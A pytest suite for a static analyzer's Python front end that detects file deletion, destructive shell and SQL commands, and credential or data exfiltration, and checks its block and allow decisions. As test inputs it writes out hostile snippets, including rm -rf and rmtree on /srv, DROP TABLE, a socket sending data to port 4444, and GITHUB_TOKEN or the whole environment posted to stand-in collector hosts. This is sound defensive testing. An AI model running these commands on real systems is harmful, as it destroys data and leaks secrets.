"""The Python front end on real fixture files annotated with `# ruleid:` / `# ok:` lines.

Every `py.*` rule of the catalogue has a fixture line it fires on and a near-miss that stays
quiet; rules/python.yaml names, over each rule's matchers, the fixture that tests them.
"""
from __future__ import annotations

import re
import sys
from pathlib import Path

import pytest

from analyzer.catalogue import load_catalogue, rules_dir
from analyzer.frontends import Options, analyze
from analyzer.model import Location
from tests.annotations import check, expectations

FIXTURES = Path(__file__).parent / "fixtures" / "python"
SOURCES = sorted(FIXTURES.glob("*.py"))


def run(text: str, path: str = "unit.py", **options):
    return analyze("python", text, Location(path), Options(**options))


@pytest.mark.parametrize("fixture", SOURCES, ids=lambda p: p.name)
@pytest.mark.parametrize("prefilter", [True, False], ids=["prefilter", "no-prefilter"])
def test_fixture(fixture: Path, prefilter: bool) -> None:
    text = fixture.read_text(encoding="utf-8")
    expected = expectations(text)
    assert expected, "a fixture without expectations tests nothing"
    analysis = run(text, str(fixture), prefilter=prefilter)
    # A scratch operation (a temporary path, what the up-migration made) loses nothing: an `ok:` line.
    actual = {(op.rule, op.location.line, None) for op in analysis.operations if not op.scratch}
    assert check(expected, actual) == []


def annotated(kind: str, sources: list[Path] = SOURCES) -> set[str]:
    """The rules the fixtures name in annotations of one kind (ruleid, ok)."""
    return {e.rule for path in sources for e in expectations(path.read_text(encoding="utf-8")) if e.kind == kind}


def test_every_python_rule_has_a_fixture_and_a_near_miss() -> None:
    """Every py.* rule fires on a fixture line and has a near-miss naming it that stays quiet
    (test_fixture holds both to what the analyzer finds)."""
    rules = {rule_id for rule_id in load_catalogue().rules if rule_id.startswith("py.")}
    assert rules - annotated("ruleid") == set(), "rules without a `# ruleid:` fixture line"
    assert rules - annotated("ok") == set(), "rules without a `# ok:` near-miss"


def test_every_annotation_names_a_rule_of_the_catalogue() -> None:
    rules = set(load_catalogue().rules)
    assert (annotated("ruleid") | annotated("ok")) - rules - {"*"} == set()


def test_each_rules_matchers_name_the_fixture_that_tests_them() -> None:
    """In rules/python.yaml a comment over each group of matchers names its fixtures; every rule
    filed under `apis:` or `sinks:` fires on a `# ruleid:` line of one of them."""
    named: dict[str, list[str]] = {}
    current: list[str] = []
    for line in (rules_dir() / "python.yaml").read_text(encoding="utf-8").splitlines():
        fixtures = re.search(r"\(fixtures: ([^)]*)\)", line)
        if fixtures:
            current = [name.strip() for name in fixtures.group(1).split(",")]
        rule = re.match(r"  (py\.[\w-]+):\s*$", line)
        if rule:
            named[rule.group(1)] = current
    section = load_catalogue().section("python")
    assert set(named) == set(section["apis"]) | set(section["sinks"])
    for rule_id, names in named.items():
        paths = [FIXTURES / name for name in names]
        assert paths and all(path in SOURCES for path in paths), f"{rule_id}: names {names}"
        assert rule_id in annotated("ruleid", paths), f"{rule_id} has no `# ruleid:` line in {names}"


def test_operations_are_well_formed() -> None:
    catalogue = load_catalogue()
    for path in SOURCES:
        for op in run(path.read_text(encoding="utf-8"), str(path)).operations:
            if op.language != "python":
                continue
            rule = catalogue.get(op.rule)
            assert op.category == rule.category and op.severity == rule.severity
            assert op.evidence and not re.search(r"\{[a-z_]+\}", op.message), op.message


def ops(text: str, **options):
    return run(text, **options).operations


def test_tempfile_paths_are_scratch_and_others_are_not() -> None:
    found = ops("import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nshutil.rmtree('/srv')\n")
    assert [(op.location.line, op.scratch) for op in found] == [(3, True), (4, False)]


def test_scratch_follows_joins_and_context_managers() -> None:
    text = ("import os, tempfile\nfrom pathlib import Path\n"
            "with tempfile.TemporaryDirectory() as tmp:\n"
            "    os.remove(os.path.join(tmp, 'a'))\n"
            "    (Path(tmp) / 'b').unlink()\n")
    assert [(op.rule, op.scratch) for op in ops(text)] == [("py.fs-delete", True), ("py.fs-delete", True)]


def test_target_is_the_folded_constant() -> None:
    text = "import shutil\nbase = '/srv'\nshutil.rmtree(base + '/data')\n"
    assert ops(text)[0].targets == ("/srv/data",)


def test_alias_of_a_function_is_resolved() -> None:
    found = ops("from shutil import rmtree as tidy\ntidy('/x')\n")
    assert [op.rule for op in found] == ["py.fs-delete-tree"]
    assert found[0].detail("callee") == "shutil.rmtree"


def test_local_function_with_the_same_name_is_not_the_library_one() -> None:
    assert ops("def rmtree(p):\n    return p\nrmtree('/x')\n") == []


@pytest.mark.parametrize("text, host", [
    ("from google.cloud import storage\nb = storage.Client().bucket('lake')\nb.upload_from_string(data)\n", "gs://lake"),
    ("g = gcs.get_bucket('lake')\ng.upload_file(data)\n", "gs://lake"),
    ("import boto3\nb = boto3.resource('s3').Bucket('prod')\nb.put_object(Body=data)\n", "s3://prod"),
    ("import boto\nb = boto.connect_s3().lookup_bucket('prod')\nb.upload_file(data)\n", "s3://prod"),
    ("from azure.storage.blob import BlobServiceClient\nc = BlobServiceClient(url).get_container_client('box')\n"
     "c.upload_blob('n', data)\n", "az://box"),
    ("import smtplib\nm = smtplib.SMTP(('smtp.example.net', 25))\nm.sendmail('a', 'b', data)\n", "smtp.example.net:25"),
    ("import socket\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\ns.sendall(data)\n", "203.0.113.5:4444"),
    ("import urllib2\nr = urllib2.Request('https://in.example/x', data)\nurllib2.urlopen(r)\n", "https://in.example"),
    ("import requests, urllib.request\nr = requests.Request('POST', 'https://in.example/x', data=data).prepare()\n"
     "urllib.request.urlopen(r)\n", "https://in.example"),
    ("import paramiko\nssh = paramiko.SSHClient()\nssh.connect('backup.example.net')\nsftp = ssh.open_sftp()\n"
     "sftp.putfo(data, '/tmp/k')\n", "backup.example.net"),
    ("import logging.handlers, os\nlogging.handlers.HTTPHandler('logs.example.net', '/in', "
     "credentials=('u', os.environ['API_TOKEN']))\n",
     "logs.example.net"),
    ("import logging.handlers\nh = logging.handlers.SocketHandler('logs.example.net', 9020)\n"
     "log = logging.getLogger()\nlog.addHandler(h)\nlog.warning(open('a.csv').read())\n",
     "logs.example.net"),
], ids=["gcs", "gcs-by-method", "s3-resource", "s3-boto", "azure", "smtp", "socket", "urllib2-request",
        "requests-request", "sftp-putfo", "log-handler", "logger-with-handler"])
def test_a_client_names_where_its_data_goes(text: str, host: str) -> None:
    # rules/python.yaml's client_hosts and request_builders: which constructor argument names the
    # host or bucket, and which cloud a bucket client belongs to.
    assert [op.targets for op in ops(text)] == [(host,)]


def test_syntax_error_still_reports_what_parses() -> None:
    text = "import shutil\nshutil.rmtree('/')\n" + "x = 1\n" * 30 + "def broken(:\n    pass\n"
    analysis = run(text)
    assert [op.location.line for op in analysis.operations] == [2]
    assert len(analysis.errors) == 1 and analysis.errors[0].line == 33
    assert "syntax error" in analysis.errors[0].message


def test_code_after_a_syntax_error_is_still_read() -> None:
    text = "def broken(:\n    pass\nimport shutil\nshutil.rmtree('/srv')\n"
    analysis = run(text)
    assert [op.location.line for op in analysis.operations] == [4]
    assert analysis.errors


def test_origin_shifts_lines_and_keeps_the_cell() -> None:
    analysis = analyze("python", "x = 1\nimport shutil\nshutil.rmtree('/d')\n", Location("nb.ipynb", 1, 1, cell=3),
                       Options())
    op = analysis.operations[0]
    assert (op.location.cell, op.location.line) == (3, 3)


def test_embedded_shell_command_is_handed_to_the_shell_front_end() -> None:
    found = ops("import subprocess\nsubprocess.run(['rm', '-rf', '/srv/data'])\n")
    assert any(op.language == "shell" and op.category == "destructive" and op.location.line == 2 for op in found)


def test_embedded_sql_points_at_the_statement_line_inside_the_string() -> None:
    text = 'cursor.execute("""\n    SELECT 1;\n    DROP TABLE analytics.events;\n""")\n'
    found = [op for op in ops(text) if op.language == "sql"]
    assert found and found[0].location.line == 3


def test_partially_constant_sql_is_classified_by_its_skeleton() -> None:
    found = ops('cursor.execute(f"DELETE FROM {table}")\n')
    assert any(op.language == "sql" and op.category == "destructive" for op in found)


def test_comments_are_real_comments_only() -> None:
    text = 'x = "# execgate: allow py.fs-delete -- not a comment"\ny = 1  # execgate: allow py.fs-delete -- real\n'
    comments = run(text).comments
    assert [(c.location.line, c.standalone) for c in comments] == [(2, False)]


def test_prefilter_skips_units_without_trigger_words() -> None:
    # Nothing to find either way; the prefilter must not change results on code with triggers.
    assert run("x = 1\nprint(x)\n").operations == []
    text = "import shutil\nshutil.rmtree('/srv')\n"
    assert run(text, prefilter=True).operations == run(text, prefilter=False).operations


def test_unbounded_recursion_in_hostile_input_is_an_error_not_a_crash() -> None:
    text = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    analysis = run(text)
    assert analysis.errors


def test_taint_crosses_a_simple_function() -> None:
    text = ("import pandas as pd, requests\n"
            "def load():\n    return pd.read_sql('SELECT * FROM users', conn)\n"
            "data = load()\n"
            "requests.get('https://x.example/api', params={'d': data.to_json()})\n")
    found = [op for op in ops(text) if op.rule == "py.exfil-request"]
    assert found and "query result" in found[0].detail("source")
    assert found[0].detail("host") == "https://x.example"


def test_a_helper_is_read_again_with_the_calls_constant_arguments() -> None:
    text = ("import subprocess\n"
            "def _git(*args):\n    return subprocess.run(['git', *args], check=True)\n"
            "_git('status')\n"
            "_git('push', '--force', 'origin', 'main')\n")
    found = [(op.rule, op.location.line) for op in ops(text)]
    assert found == [("shell.git-force-push", 5)]


def test_pytest_tmp_path_is_scratch() -> None:
    text = "import shutil\ndef test_export(tmp_path):\n    shutil.rmtree(tmp_path / 'exports')\n"
    assert [(op.rule, op.scratch) for op in ops(text)] == [("py.fs-delete-tree", True)]


def test_redis_unlink_of_a_key_is_not_a_file_removal() -> None:
    assert ops("pipe = r.pipeline()\npipe.unlink('session:1')\n") == []
    assert [op.rule for op in ops("report.unlink()\n")] == ["py.fs-delete"]


def test_jinja_in_a_workflow_command_is_a_hole() -> None:
    text = ("from airflow.operators.bash import BashOperator\n"
            "clean = BashOperator(task_id='c', bash_command='rm -rf /tmp/marketing/*_{{ ds }}.json')\n"
            "wipe = BashOperator(task_id='w', bash_command='rm -rf /srv/{{ params.dir }}')\n")
    from analyzer.policy.load import load_policy

    policy = load_policy()
    found = ops(text)
    # The templated part is unknown, yet the rest of the path still says where it is.
    assert [(op.rule, op.location.line) for op in found] == [("shell.rm-recursive", 2), ("shell.rm-recursive", 3)]
    assert [policy.operation_is_scratch(op) for op in found] == [True, False]


def test_a_removal_in_a_helper_is_scratch_when_every_call_gives_it_a_temporary_directory() -> None:
    body = ("import shutil, tempfile\n"
            "def wipe(workdir):\n    shutil.rmtree(workdir)\n"
            "with tempfile.TemporaryDirectory() as tmp:\n    wipe(tmp)\n")
    assert [(op.location.line, op.scratch) for op in ops(body)] == [(3, True)]
    also_elsewhere = body + "wipe('/srv/data')\n"
    assert (3, False) in [(op.location.line, op.scratch) for op in ops(also_elsewhere)]


@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python's own ast reads PEP 695 syntax")
def test_newer_python_syntax_is_read_statement_by_statement_through_libcst() -> None:
    # PEP 695 generics and type aliases (Python 3.12) on an older interpreter: libcst knows the
    # grammar and gives statement boundaries, so the removal is still found at its line.
    text = ("import shutil\n\ndef first[T](xs: list[T]) -> T:\n    return xs[0]\n\n# comment\n"
            "shutil.rmtree('/srv/data')\n\ntype Pair = tuple[int, int]\n")
    analysis = run(text)
    assert [(op.rule, op.location.line) for op in analysis.operations] == [("py.fs-delete-tree", 7)]
    assert len(analysis.errors) == 1 and "newer Python" in analysis.errors[0].message


def test_a_real_syntax_error_is_still_one_error() -> None:
    analysis = run("import shutil\nshutil.rmtree('/srv')\ndef broken(:\n    pass\n")
    assert [e.message.split(":")[0] for e in analysis.errors] == ["syntax error"]


# -- removing files: how much a removal removes (the `scope` detail) ------------------------------

REMOVALS = "import os, glob, shutil\nfrom pathlib import Path\n"


@pytest.mark.parametrize("line, rule, scope, targets, resolved", [
    ('os.remove("notes.txt")', "py.fs-delete", "single", ("notes.txt",), "yes"),
    ('Path("reports/q3.xlsx").unlink()', "py.fs-delete", "single", ("reports/q3.xlsx",), "yes"),
    ('Path("empty_dir").rmdir()', "py.fs-delete", "single", ("empty_dir",), "yes"),
    ('os.unlink(f"exports/{name}.csv")', "py.fs-delete", "single", ("exports/{}.csv",), "partial"),
    ("os.remove(path)", "py.fs-delete", "single", ("path",), "no"),
    ('shutil.rmtree("build")', "py.fs-delete-tree", "bulk", ("build",), "yes"),
    ('for f in glob.glob("exports/*.csv"):\n    os.remove(f)', "py.fs-delete", "bulk", ("exports/*.csv",), "yes"),
    ('[os.remove(p) for p in Path(".").glob("*.csv")]', "py.fs-delete", "bulk", ("*.csv",), "yes"),
    ('for p in Path("data").rglob("*.tmp"):\n    p.unlink()', "py.fs-delete", "bulk", ("data/**/*.tmp",), "yes"),
    ('for n in os.listdir("out"):\n    os.remove(os.path.join("out", n))', "py.fs-delete", "bulk", ("out/*",), "yes"),
    ('for e in os.scandir("cache"):\n    os.unlink(e.path)', "py.fs-delete", "bulk", ("cache/*",), "yes"),
    ('for root, dirs, files in os.walk("uploads"):\n    for f in files:\n        os.remove(os.path.join(root, f))',
     "py.fs-delete", "bulk", ("uploads/**",), "yes"),
    ('for d in Path(base).iterdir():\n    shutil.rmtree(d)', "py.fs-delete-tree", "bulk", ("{Path(base)}/*",),
     "partial"),
    ('list(map(os.remove, glob.glob("logs/*.log")))', "py.fs-delete", "bulk", ("logs/*.log",), "yes"),
    ('stale = [p for p in glob.glob("*.bak") if p]\nfor f in stale:\n    os.remove(f)', "py.fs-delete", "bulk",
     ("*.bak",), "yes"),
    ('def rm(p):\n    os.remove(p)\nfor f in glob.glob("*.log"):\n    rm(f)', "py.fs-delete", "bulk", ("*.log",),
     "yes"),
    ("for f in leftovers:\n    os.remove(f)", "py.fs-delete", "bulk", ("f",), "no"),
    ('for i in range(3):\n    os.remove(f"app.log.{i}")', "py.fs-delete", "bulk", ("app.log.{}",), "partial"),
    ('for f in ["a.txt", "b.txt"]:\n    os.remove(f)', "py.fs-delete", "single", ("a.txt", "b.txt"), "yes"),
], ids=["os.remove", "Path.unlink", "Path.rmdir", "f-string", "variable", "rmtree", "glob-loop",
        "Path.glob-comprehension", "rglob", "listdir", "scandir", "walk", "iterdir-unknown-base", "map-over-glob",
        "filtered-listing", "helper-in-a-glob-loop", "loop-over-unknown", "loop-over-range", "loop-over-constants"])
def test_a_removal_says_how_much_it_removes(line: str, rule: str, scope: str, targets: tuple[str, ...],
                                             resolved: str) -> None:
    found = [op for op in ops(REMOVALS + line + "\n") if op.rule == rule and op.detail("scope") == scope
             and op.targets == targets]
    assert found, [(op.rule, op.targets, op.details) for op in ops(REMOVALS + line + "\n")]
    assert found[0].detail("resolved") == resolved


def test_a_listing_that_is_only_read_is_no_removal_and_other_rules_carry_no_scope() -> None:
    assert ops(REMOVALS + 'for f in glob.glob("*.csv"):\n    print(os.path.getsize(f))\n') == []
    assert ops(REMOVALS + 'names = os.listdir(".")\n[names.remove(n) for n in list(names)]\n') == []
    truncate = ops(REMOVALS + 'os.truncate("/data/ledger.db", 0)\n')
    assert [op.rule for op in truncate] == ["py.fs-truncate"] and truncate[0].detail("scope") is None


def test_a_temporary_listing_stays_scratch() -> None:
    text = REMOVALS + ("import tempfile\nwith tempfile.TemporaryDirectory() as tmp:\n"
                       "    for p in Path(tmp).glob('*.part'):\n        p.unlink()\n")
    assert [(op.detail("scope"), op.scratch) for op in ops(text)] == [("bulk", True)]


def decisions(text: str) -> list[tuple[str, str]]:
    """(rule, action) of each finding under the built-in policy."""
    from analyzer.engine import Checker
    from analyzer.model import Context
    from analyzer.policy.load import load_policy

    report = Checker(load_policy(), Context()).check_text(text, "python", "job.py")
    return [(f.operation.rule, f.action) for f in report.findings]


@pytest.mark.parametrize("line, action", [
    ('os.remove("notes.txt")', "allow"),
    ('Path("docs/draft.md").unlink()', "allow"),
    ('Path("reports/q3.xlsx").unlink()', "block"),
    ('for f in glob.glob("notes/*.txt"):\n    os.remove(f)', "block"),
    ('[os.remove(p) for p in Path(".").glob("*.txt")]', "block"),
    ("os.remove(path)", "block"),
    ('os.remove("/srv/notes.txt")', "block"),
    ('os.remove("../notes.txt")', "block"),
], ids=["named-file", "named-Path", "data-file", "glob-loop", "glob-comprehension", "unknown-path", "absolute",
        "parent"])
def test_one_named_file_is_routine_and_many_or_unknown_ones_block(line: str, action: str) -> None:
    assert decisions(REMOVALS + line + "\n") == [("py.fs-delete", action)]


# -- data leaving: where it comes from and where in the request it travels -------------------------

SENDS = "import os, socket, requests, httpx, urllib.request\nfrom requests.auth import HTTPBasicAuth\n"
GITHUB = 'os.environ["GITHUB_TOKEN"]'
IN_FSTRING = "os.environ['GITHUB_TOKEN']"


@pytest.mark.parametrize("line, host, credential, carrier", [
    (f'requests.get("https://api.github.com/user", headers={{"Authorization": "token " + {GITHUB}}})',
     "https://api.github.com", "GITHUB_TOKEN", "auth"),
    (f'requests.get("https://collector.example.net/u", headers={{"Authorization": "token " + {GITHUB}}})',
     "https://collector.example.net", "GITHUB_TOKEN", "auth"),
    (f'requests.post("https://api.github.com/x", json={{"t": {GITHUB}}})', "https://api.github.com",
     "GITHUB_TOKEN", "body"),
    (f'requests.get(f"https://api.github.com/user?access_token={{{IN_FSTRING}}}")', "https://api.github.com",
     "GITHUB_TOKEN", "query"),
    (f'requests.get("https://api.github.com/user", params={{"t": {GITHUB}}})', "https://api.github.com",
     "GITHUB_TOKEN", "query"),
    (f'requests.get(f"https://api.github.com/{{{IN_FSTRING}}}/x")', "https://api.github.com", "GITHUB_TOKEN", "url"),
    (f'requests.get("https://api.github.com/user", auth=HTTPBasicAuth("me", {GITHUB}))', "https://api.github.com",
     "GITHUB_TOKEN", "auth"),
    ('requests.get("https://api.github.com/user", auth=("me", os.getenv("GH_TOKEN")))', "https://api.github.com",
     "GH_TOKEN", "auth"),
    ('httpx.get("https://api.openai.com/v1/models", headers={"X-Request-Id": os.environ["OPENAI_API_KEY"]})',
     "https://api.openai.com", "OPENAI_API_KEY", "header"),
    ('h = {}\nh["X-API-Key"] = os.environ["OPENAI_API_KEY"]\nh["X-Trace"] = os.environ["TRACE_TOKEN"]\n'
     'httpx.post("https://api.openai.com/v1/x", headers=h, json={"q": 1})', "https://api.openai.com",
     "OPENAI_API_KEY,TRACE_TOKEN", "auth,header"),
    (f'requests.post("https://api.github.com/x", headers={{"Authorization": "token " + {GITHUB}}}, '
     f'files={{"f": {GITHUB}}})', "https://api.github.com", "GITHUB_TOKEN", "auth,file"),
    (f'urllib.request.urlopen(urllib.request.Request("https://api.github.com/u", '
     f'headers={{"Authorization": "Bearer " + {GITHUB}}}))', "https://api.github.com", "GITHUB_TOKEN", "auth"),
], ids=["auth-header", "auth-header-elsewhere", "body", "url-query", "params", "url-path", "HTTPBasicAuth",
        "auth-tuple", "other-header", "header-mapping-built-up", "auth-and-file", "request-object"])
def test_a_credential_in_a_request_is_reported_with_where_it_travels(line: str, host: str, credential: str,
                                                                     carrier: str) -> None:
    found = [op for op in ops(SENDS + line + "\n") if op.rule == "py.exfil-request"]
    assert len(found) == 1, found
    op = found[0]
    assert (op.detail("host"), op.detail("credential"), op.detail("carrier")) == (host, credential, carrier)
    assert all(f"environment secret {name}" in (op.detail("source") or "") for name in credential.split(","))


@pytest.mark.parametrize("line", [
    'requests.get("https://api.example.net/items", headers={"X-Region": os.environ["REGION"]})',
    'requests.get("https://api.example.net/items", params={"home": os.getenv("HOME")})',
    'requests.get(f"https://api.example.net/items?region={os.environ.get(\'AWS_REGION\')}")',
    'socket.gethostbyname(os.environ["DB_HOST"])',
], ids=["header", "params", "url-query", "dns"])
def test_an_environment_value_that_is_no_secret_is_not_a_source(line: str) -> None:
    assert ops(SENDS + line + "\n") == []


@pytest.mark.parametrize("line, source", [
    ('requests.post("https://x.example/a", json={"region": os.environ["REGION"]})', None),
    ('requests.post("https://x.example/a", json={"k": 1})', None),
    ('requests.post("https://x.example/a", json=dict(os.environ))', "environment secret"),
    ('requests.post("https://x.example/a", data=str(os.environ.copy()))', "environment secret"),
    ('requests.post("https://x.example/a", json={"p": os.environ.get("DB_PASSWORD", "")})',
     "environment secret DB_PASSWORD"),
    ('requests.post("https://x.example/a", json={"u": os.environ["database_url"]})', "environment secret database_url"),
    ('name = pick()\nrequests.post("https://x.example/a", json={"v": os.environ[name]})', "environment secret"),
], ids=["env-value", "constant", "whole-environment", "environment-copy", "get-with-default", "lower-case-name",
        "unknown-name"])
def test_a_body_is_sent_and_only_a_source_gives_it_a_source(line: str, source: str | None) -> None:
    found = [op for op in ops(SENDS + line + "\n") if op.rule == "py.exfil-request"]
    assert [(op.detail("source"), op.detail("carrier")) for op in found] == [(source, "body")]
    assert found[0].detail("credential") == (source.split(" ", 2)[2] if source and source.count(" ") > 1 else None)


def test_secret_names_come_from_the_secrets_catalogue() -> None:
    from analyzer.frontends.python.apis import python_catalogue

    catalogue = python_catalogue()
    globs = load_catalogue().section("secrets")["secret_variables"]
    assert "*TOKEN*" in globs and catalogue.is_secret_variable("ci_job_token")
    assert [catalogue.is_secret_variable(n) for n in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SENTRY_DSN")] == \
        [True, True, True]
    assert [catalogue.is_secret_variable(n) for n in ("REGION", "HOME", "AWS_REGION", "PATH")] == \
        [False, False, False, False]


@pytest.mark.parametrize("line, payload", [
    ('requests.post("https://x.example/a", json={"k": 1, "region": os.environ["REGION"]})', "constant"),
    (f'requests.post("https://api.github.com/x", headers={{"Authorization": "token " + {GITHUB}}}, '
     'json={"title": "bug"})', "constant"),
    ('h = {}\nh["X-API-Key"] = os.environ["OPENAI_API_KEY"]\nhttpx.post("https://api.openai.com/v1/x", headers=h, '
     'json={"q": 1})', "constant"),
    ('requests.post("https://x.example/a", json={"title": title})', "data"),
    ('rows = cursor.fetchall()\nrequests.post("https://x.example/a", json={"title": "x"}, params={"r": rows})',
     "data"),
    ('requests.post("https://x.example/a", json=dict(os.environ))', "data"),
    ('import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm["To"] = "x@example.net"\n'
     'smtplib.SMTP("mail.example.net").send_message(m)', "data"),
    ('import smtplib\nsmtplib.SMTP("mail.example.net").sendmail("a@x.example", ["b@x.example"], "deployed")',
     "constant"),
    ('import boto3\nboto3.client("s3").upload_file("report.csv", "other-bucket", "r.csv")', "data"),
], ids=["constants-and-configuration", "credential-and-constant-body", "header-mapping-built-up", "unknown-value",
        "query-result", "whole-environment", "message-object", "constant-mail", "upload"])
def test_a_send_says_whether_anything_but_constants_and_its_credentials_travels(line: str, payload: str) -> None:
    found = [op for op in ops(SENDS + line + "\n") if op.category == "exfiltration"]
    assert [op.detail("payload") for op in found] == [payload]


@pytest.mark.parametrize("line, action", [
    (f'requests.get("https://api.github.com/user", headers={{"Authorization": "token " + {GITHUB}}})', "allow"),
    (f'requests.get("https://api.github.com/user", auth=HTTPBasicAuth("me", {GITHUB}))', "allow"),
    ('requests.post("https://hooks.example.net/deploy", json={"text": "deployed"})', "warn"),
    (f'requests.get("https://collector.example.net/u", headers={{"Authorization": "token " + {GITHUB}}})',
     "block"),
    (f'requests.post("https://api.github.com/x", json={{"t": {GITHUB}}})', "block"),
    (f'requests.get(f"https://api.github.com/user?access_token={{{IN_FSTRING}}}")', "block"),
    (f'requests.get("https://api.github.com/user", headers={{"Authorization": "token " + {GITHUB}}}, '
     'params={"q": open("customers.csv").read()})', "block"),
], ids=["auth-header-to-its-service", "basic-auth-to-its-service", "constant-payload", "auth-to-another-host",
        "body-to-its-service", "query-to-its-service", "other-data-with-it"])
def test_a_credential_authenticates_only_in_its_services_authentication(line: str, action: str) -> None:
    assert decisions(SENDS + line + "\n") == [("py.exfil-request", action)]


ODD_URL_FILE = ("import requests, shutil\n"
                "requests.post('{url}', data=open('customers.csv').read())\n"
                "shutil.rmtree('/srv/data')\n")


@pytest.mark.parametrize("url, host", [
    ("https://host[.]example.com/in", "https://host[.]example.com"),
    ("https://[not-an-ip]:443/in", "https://[not-an-ip]:443"),
    ("https://[2001:db8::1]:8443/in", "https://[2001:db8::1]:8443"),
    ("https://example.com:99999999999/in", None),
], ids=["defanged", "bracketed-name", "ipv6", "huge-port"])
def test_a_url_no_client_reads_is_a_host_that_is_never_allowed(url: str, host: str | None) -> None:
    analysis = run(ODD_URL_FILE.format(url=url))
    assert analysis.errors == []
    assert [(op.rule, op.location.line, op.detail("host")) for op in analysis.operations] == [
        ("py.exfil-request", 2, host), ("py.fs-delete-tree", 3, None)]
    assert decisions(ODD_URL_FILE.format(url=url)) == [("py.exfil-request", "block"), ("py.fs-delete-tree", "block")]


def test_an_expression_that_cannot_be_analysed_is_an_error_and_the_rest_is_still_read(monkeypatch) -> None:
    """Whatever one expression raises, it is reported at its line and every other finding stays."""
    from analyzer.frontends.python import calls

    def broken(url: str) -> str | None:
        raise ValueError("cannot read " + url)

    monkeypatch.setattr(calls, "_host_of", broken)
    text = ODD_URL_FILE.format(url="https://collector.example.net/in") + "x = requests.post('https://a.example')\n"
    analysis = run(text, path="job.py")
    assert [(op.rule, op.location.line) for op in analysis.operations] == [("py.fs-delete-tree", 3)]
    assert [(e.path, e.line) for e in analysis.errors] == [("job.py", 2), ("job.py", 4)]
    assert all("ValueError: cannot read" in e.message and "internal error" not in e.message for e in analysis.errors)
